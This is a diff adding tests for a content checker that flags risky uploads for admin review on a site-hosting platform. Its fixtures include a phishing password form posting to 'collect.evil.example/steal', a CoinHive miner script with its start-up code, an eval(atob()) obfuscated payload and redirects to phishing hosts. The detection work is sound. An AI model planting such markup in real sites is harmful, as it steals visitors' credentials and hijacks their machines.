@@ -1,0 +1,361 @@
+/**
+ * The content check (review issue item 4): computed at ingest for each version, stored with it,
+ * shown in full on the review detail (GET /api/admin/projects/{id}) and as a badge in the review
+ * list. Small hostile and benign sites are made here; the checker itself is also driven directly
+ * for its caps and for hostile input that must not stall the event loop.
+ */
+import type { ContentCheckReport, ContentFinding } from '@sitehall/contracts';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { checkSiteContent, type SiteFile } from '../src/services/content-check.js';
+import { createTestApp, SIMPLE_SITE, type TestApp, type UploadFile, uploadProject } from './helpers.js';
+
+let t: TestApp;
+let owner: { token: string };
+beforeAll(async () => {
+  t = await createTestApp();
+  owner = await t.createUser();
+});
+afterAll(() => t.close());
+
+async function upload(files: UploadFile[], name = '检查项目'): Promise<number> {
+  const res = await uploadProject(t, owner.token, { name, files });
+  if (res.statusCode !== 201) throw new Error(`upload failed: ${res.statusCode} ${res.body}`);
+  return res.json().data.project.id;
+}
+
+async function checkOf(id: number): Promise<ContentCheckReport> {
+  const res = await t.request({ url: `/api/admin/projects/${id}`, token: await t.adminToken() });
+  expect(res.statusCode, res.body).toBe(200);
+  return res.json().data.content_check;
+}
+
+const pick = (r: ContentCheckReport, kind: string) => r.findings.filter((f) => f.kind === kind);
+
+describe('sites made in the tests', () => {
+  it('a clean site has no findings and a clean badge', async () => {
+    const id = await upload([
+      ...SIMPLE_SITE,
+      {
+        name: 'about.html',
+        content: '<a href="index.html">首页</a> <a href="https://example.org/">外部链接</a>',
+      },
+      { name: 'js/app.js', content: 'document.querySelector("h1").textContent = "你好";\n' },
+      { name: 'data.json', content: '{"ok": true}' },
+    ]);
+    const report = await checkOf(id);
+    expect(report).toMatchObject({
+      version: 1,
+      level: 'clean',
+      counts: { high: 0, medium: 0, low: 0, info: 0 },
+      findings: [],
+      omitted_findings: 0,
+      external_domains: { scripts: [], stylesheets: [], frames: [], forms: [], redirects: [] },
+      scanned_files: 5,
+      partially_scanned_files: [],
+    });
+    expect(report.largest_files).toHaveLength(5);
+    expect(report.largest_files[0]).toEqual({
+      file: 'index.html',
+      size: Buffer.byteLength(SIMPLE_SITE[0]!.content),
+    });
+    const sizes = report.largest_files.map((f) => f.size);
+    expect(sizes).toEqual([...sizes].sort((a, b) => b - a));
+    const list = await t.request({ url: '/api/admin/projects?search=检查', token: await t.adminToken() });
+    const row = list.json().data.projects.find((p: { id: number }) => p.id === id);
+    expect(row.content_check).toEqual({ level: 'clean', counts: { high: 0, medium: 0, low: 0, info: 0 } });
+  });
+
+  it('flags a password form that posts to another domain as high, with file and line', async () => {
+    const id = await upload([
+      {
+        name: 'index.html',
+        content: [
+          '<!doctype html>',
+          '<html><body>',
+          '<h1>银行登录</h1>',
+          '<form method="post" action="https://collect.evil.example/steal">',
+          '  <input name="user">',
+          '  <input type="password" name="pass">',
+          '</form>',
+          '</body></html>',
+        ].join('\n'),
+      },
+    ]);
+    const report = await checkOf(id);
+    expect(report.level).toBe('high');
+    expect(pick(report, 'password_form')).toEqual<ContentFinding[]>([
+      {
+        severity: 'high',
+        kind: 'password_form',
+        message: '表单收集密码并提交到外部域名 collect.evil.example：疑似钓鱼',
+        file: 'index.html',
+        line: 6,
+      },
+    ]);
+    expect(report.external_domains.forms).toEqual(['collect.evil.example']);
+    const list = await t.request({ url: '/api/admin/projects?status=pending', token: await t.adminToken() });
+    const row = list.json().data.projects.find((p: { id: number }) => p.id === id);
+    expect(row.content_check).toEqual({ level: 'high', counts: { high: 1, medium: 0, low: 0, info: 0 } });
+  });
+
+  it('flags a password field on its own, and a form posting elsewhere, as medium', async () => {
+    const id = await upload([
+      {
+        name: 'index.html',
+        content:
+          '<form action="login.html"><input type="password"></form>\n<form action="//search.example.com/q"><input name="q"></form>',
+      },
+    ]);
+    const report = await checkOf(id);
+    expect(report.findings).toEqual([
+      expect.objectContaining({ severity: 'medium', kind: 'password_form', line: 1 }),
+      expect.objectContaining({
+        severity: 'medium',
+        kind: 'external_form',
+        message: '表单提交到外部域名 search.example.com',
+        line: 2,
+      }),
+    ]);
+  });
+
+  it('flags an external crypto-miner script and its start-up code', async () => {
+    const id = await upload([
+      {
+        name: 'index.html',
+        content: [
+          '<html><head>',
+          '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
+          '<script src="js/start.js"></script>',
+          '</head><body>游戏</body></html>',
+        ].join('\n'),
+      },
+      { name: 'js/start.js', content: "var miner = new CoinHive.Anonymous('SITE_KEY');\nminer.start();\n" },
+    ]);
+    const report = await checkOf(id);
+    expect(report.level).toBe('high');
+    expect(pick(report, 'crypto_miner')).toEqual([
+      expect.objectContaining({ severity: 'high', file: 'index.html', line: 2 }),
+      expect.objectContaining({ severity: 'high', file: 'js/start.js', line: 1 }),
+    ]);
+    expect(pick(report, 'external_script')).toEqual([
+      {
+        severity: 'low',
+        kind: 'external_script',
+        message: '引用外部脚本：coinhive.com',
+        file: 'index.html',
+        line: 2,
+      },
+    ]);
+    expect(report.external_domains.scripts).toEqual(['coinhive.com']);
+  });
+
+  it('flags root-absolute links, sources and CSS urls that break under /sites/{id}/', async () => {
+    const id = await upload([
+      {
+        name: 'index.html',
+        content: [
+          '<link rel="stylesheet" href="/css/site.css">',
+          '<a href="/about.html">关于</a>',
+          '<img src="/img/logo.png" srcset="img/logo.png 1x, /img/logo@2x.png 2x">',
+          '<a href="about.html">相对链接</a> <a href="//cdn.example.com/x">协议相对</a> <a href="#top">锚点</a>',
+        ].join('\n'),
+      },
+      { name: 'about.html', content: '<p>关于</p>' },
+      { name: 'css/site.css', content: 'body {\n  margin: 0;\n  background: url("/img/bg.png");\n}\n' },
+    ]);
+    const report = await checkOf(id);
+    const found = pick(report, 'root_absolute_link').map((f) => [f.file, f.line, f.severity]);
+    expect(found).toEqual([
+      ['css/site.css', 3, 'medium'],
+      ['index.html', 1, 'medium'],
+      ['index.html', 2, 'medium'],
+      ['index.html', 3, 'medium'],
+      ['index.html', 3, 'medium'],
+    ]);
+    expect(pick(report, 'root_absolute_link')[1]!.message).toContain('“/css/site.css”');
+  });
+
+  it('flags redirects to other domains, obfuscation, and content that does not match its extension', async () => {
+    const payload = Buffer.from('alert("x")'.repeat(30)).toString('base64');
+    const id = await upload([
+      {
+        name: 'index.html',
+        content: '<meta http-equiv="refresh" content="0; url=https://phish.example.net/">',
+      },
+      {
+        name: 'go.html',
+        content: '<script>\nwindow.location.href = "https://other.example.org/landing";\n</script>',
+      },
+      { name: 'packed.js', content: `var a = 1;\neval(atob("${payload}"));\n` },
+      { name: 'notes.txt', content: '<!DOCTYPE html><html><body>伪装成文本的页面</body></html>' },
+      { name: 'broken.json', content: '{"a": ' },
+      {
+        name: 'logo.svg',
+        content: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+      },
+    ]);
+    const report = await checkOf(id);
+    const summary = report.findings.map((f) => [f.severity, f.kind, f.file, f.line]);
+    expect(summary).toEqual([
+      ['high', 'redirect', 'index.html', 1],
+      ['high', 'obfuscation', 'packed.js', 2],
+      ['medium', 'redirect', 'go.html', 2],
+      ['medium', 'svg_script', 'logo.svg', 1],
+      ['medium', 'type_mismatch', 'notes.txt', 1],
+      ['low', 'type_mismatch', 'broken.json', null],
+    ]);
+    expect(report.external_domains.redirects).toEqual(['other.example.org', 'phish.example.net']);
+    expect(report.counts).toEqual({ high: 2, medium: 3, low: 1, info: 0 });
+  });
+
+  it('flags a site without an entry page, and external styles and frames with their domains', async () => {
+    const id = await upload([
+      {
+        name: 'a.html',
+        content:
+          '<link rel="stylesheet" href="https://fonts.example.com/css">\n<iframe src="https://video.example.com/embed/1"></iframe>',
+      },
+      { name: 'b.html', content: '<p>b</p>' },
+    ]);
+    const report = await checkOf(id);
+    expect(report.findings).toEqual([
+      {
+        severity: 'medium',
+        kind: 'missing_entry',
+        message: '未找到入口文件（index.html）：站点根地址无法打开',
+        file: null,
+        line: null,
+      },
+      expect.objectContaining({ severity: 'low', kind: 'external_frame', file: 'a.html', line: 2 }),
+      expect.objectContaining({ severity: 'info', kind: 'external_stylesheet', file: 'a.html', line: 1 }),
+    ]);
+    expect(report.external_domains).toMatchObject({
+      stylesheets: ['fonts.example.com'],
+      frames: ['video.example.com'],
+    });
+  });
+
+  it('is stored with the version at upload, and made again for a version stored without one', async () => {
+    const id = await upload([{ name: 'index.html', content: '<a href="/x">x</a>' }], '补做检查');
+    const row = () =>
+      t.ctx.db
+        .selectFrom('deployments')
+        .select(['id', 'content_check'])
+        .where('project_id', '=', id)
+        .executeTakeFirstOrThrow();
+    const stored = await row();
+    expect(JSON.parse(stored.content_check!)).toMatchObject({ version: 1, level: 'medium' });
+
+    // A version stored before the check existed: no badge until its review detail is opened.
+    await t.ctx.db
+      .updateTable('deployments')
+      .set({ content_check: null })
+      .where('id', '=', stored.id)
+      .execute();
+    const badge = async () =>
+      (await t.request({ url: '/api/admin/projects?search=补做检查', token: await t.adminToken() })).json()
+        .data.projects[0].content_check;
+    expect(await badge()).toBeNull();
+    const report = await checkOf(id);
+    expect(report).toMatchObject({ level: 'medium', counts: { medium: 1 } });
+    expect(JSON.parse((await row()).content_check!)).toMatchObject({ level: 'medium' });
+    expect(await badge()).toEqual({ level: 'medium', counts: { high: 0, medium: 1, low: 0, info: 0 } });
+  });
+
+  it('checks each new version on its own', async () => {
+    const id = await upload([{ name: 'index.html', content: '<p>干净</p>' }]);
+    await t.request({
+      method: 'POST',
+      url: `/api/admin/projects/${id}/review`,
+      token: await t.adminToken(),
+      body: { action: 'approve' },
+    });
+    const v2 = await uploadProject(t, owner.token, {
+      projectId: id,
+      files: [{ name: 'index.html', content: '<script src="https://evil.example/x.js"></script>' }],
+    });
+    expect(v2.statusCode).toBe(200);
+    const res = await t.request({ url: `/api/admin/projects/${id}`, token: await t.adminToken() });
+    expect(res.json().data).toMatchObject({
+      content_check_version: 2,
+      content_check: { level: 'low', external_domains: { scripts: ['evil.example'] } },
+    });
+  });
+});
+
+/** An in-memory site for the checker itself. */
+function site(files: Record<string, string | Buffer>): SiteFile[] {
+  return Object.entries(files).map(([path, content]) => {
+    const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content);
+    return {
+      path,
+      size: bytes.length,
+      extension: path.slice(path.lastIndexOf('.') + 1),
+      read: async (n: number) => bytes.subarray(0, n),
+    };
+  });
+}
+
+describe('the checker', () => {
+  it('lists at most 10 findings of one kind per file, and counts them all', async () => {
+    const links = Array.from({ length: 50 }, (_, i) => `<a href="/p${i}.html">${i}</a>`).join('\n');
+    const report = await checkSiteContent(site({ 'index.html': links }), 'index.html');
+    expect(report.counts.medium).toBe(50);
+    expect(report.findings).toHaveLength(10);
+    expect(report.omitted_findings).toBe(40);
+    expect(report.findings.map((f) => f.line)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
+  });
+
+  it('does not report root paths when sites have their own host (they work there)', async () => {
+    const report = await checkSiteContent(
+      site({ 'index.html': '<a href="/about.html">x</a>' }),
+      'index.html',
+      {
+        rootPathsWork: true,
+      },
+    );
+    expect(report.level).toBe('clean');
+  });
+
+  it('reads within its per-file and total budgets and says which files it read only in part', async () => {
+    const files = site({
+      'a.html': `${'<p>填充</p>\n'.repeat(200)}<a href="/late.html">x</a>`,
+      'b.html': '<a href="/b.html">b</a>',
+    });
+    const report = await checkSiteContent(files, 'a.html', { maxBytesPerFile: 512, maxBytesTotal: 512 });
+    expect(report.partially_scanned_files).toEqual(['a.html', 'b.html']);
+    expect(report.level).toBe('clean');
+  });
+
+  it('ignores comments, and finds tags whatever their case or quoting', async () => {
+    const report = await checkSiteContent(
+      site({
+        'index.html':
+          '<!-- <script src="https://hidden.example/x.js"></script> -->\n<SCRIPT SRC=https://cdn.example.com/a.js></SCRIPT>\n<a href=\'&#47;entity.html\'>x</a>',
+      }),
+      'index.html',
+    );
+    expect(report.findings.map((f) => [f.kind, f.line])).toEqual([
+      ['root_absolute_link', 3],
+      ['external_script', 2],
+    ]);
+    expect(report.external_domains.scripts).toEqual(['cdn.example.com']);
+  });
+
+  it('handles hostile input in linear time', async () => {
+    const MB2 = 2 * 1024 * 1024;
+    const hostile = site({
+      'a.html': `<a ${'x'.repeat(MB2)}`,
+      'b.html': '<'.repeat(MB2),
+      'c.html': `<a href="${'"'.repeat(MB2)}`,
+      'd.js': `${`eval("${'A'.repeat(199)}!`.repeat(5000)}${'location.href="//'.repeat(50_000)}`,
+      'e.css': `url(${'('.repeat(MB2 / 2)}${'@import '.repeat(50_000)}`,
+      'f.js': `${`"${'A'.repeat(1001)}`.repeat(1500)}eval(`,
+      'g.js': `String.fromCharCode(${'1,'.repeat(MB2 / 2)}`,
+    });
+    const started = performance.now();
+    const report = await checkSiteContent(hostile, 'a.html');
+    expect(performance.now() - started).toBeLessThan(5_000);
+    expect(report.version).toBe(1);
+  });
+});
